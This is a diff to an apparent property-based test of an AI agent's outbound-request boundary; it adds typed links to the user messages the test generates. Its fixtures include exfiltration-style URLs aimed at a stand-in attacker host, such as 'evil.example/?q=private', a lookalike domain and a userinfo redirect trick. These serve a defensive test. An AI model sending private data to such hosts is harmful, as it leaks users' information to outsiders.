@@ -21,11 +21,14 @@ const call = (name: string, input: JsonObject) => ({ name, input })
 type Call = Omit<ToolCall, 'id'>
 
 const typedAddress = 'https://typed.example/page'
+/** Links of one message, which could be an alphabet. */
+const links = ['a', 'b', 'c', 'd', 'e', 'f'].map((letter) => `https://${letter}.links.example/`)
 const address = fc.constantFrom(
   ...['https://evil.example/?q=private', 'https://docs.example.org.evil.example/', typedAddress],
   ...['https://docs.example.org/a', 'https://wiki.team.example/b', 'https://team.example/'],
   ...[`https://${grantedHost}/?q=private`, `https://${grantedHost}@evil.example/`],
   ...['https://docs.example.org:8443/', `${typedAddress}?q=private`, 'https://typed.example/'],
+  ...links,
 )
 const anyCall: fc.Arbitrary<Call> = fc.oneof(
   { weight: 4, arbitrary: address.map((url) => call('web_fetch', { url })) },
@@ -50,8 +53,8 @@ const anyCall: fc.Arbitrary<Call> = fc.oneof(
 const turns = fc.array(
   fc.record({
     by: fc.constantFrom<TurnStart>('person', 'person', 'webhook', 'cron'),
-    typed: fc.boolean(),
-    calls: fc.array(anyCall, { minLength: 1, maxLength: 4 }),
+    typed: fc.constantFrom('', typedAddress, links.join(' ')),
+    calls: fc.array(anyCall, { minLength: 1, maxLength: 5 }),
   }),
   { minLength: 1, maxLength: 3 },
 )
@@ -71,7 +74,7 @@ async function play(
   const fixture = await createEgressFixture(sha256)
   for (const { by, typed, calls } of plan) {
     fixture.plan.calls = calls
-    const run = await fixture.start(typed ? `Read ${typedAddress} now` : 'Go.', by)
+    const run = await fixture.start(typed === '' ? 'Go.' : `Read ${typed} now`, by)
     const answer = (one: AgentHarness) => answerPending(one, said)
     await workWithAnswers(fixture.harness, run, { crashPoints: crashes, answer })
   }
@@ -112,7 +115,12 @@ describe('the boundary of information flow', () => {
     )
     const expected = [
       ...['https://evil.example/?q=private', typedAddress, `https://${grantedHost}/?q=private`],
-      ...['https://docs.example.org/a', 'https://errand.example/?q=private', 'connector:wiki'],
+      ...[
+        'https://a.links.example/',
+        'https://docs.example.org/a',
+        'https://errand.example/?q=private',
+        'connector:wiki',
+      ],
       ...[
         'connector:github',
         'connector:mail',
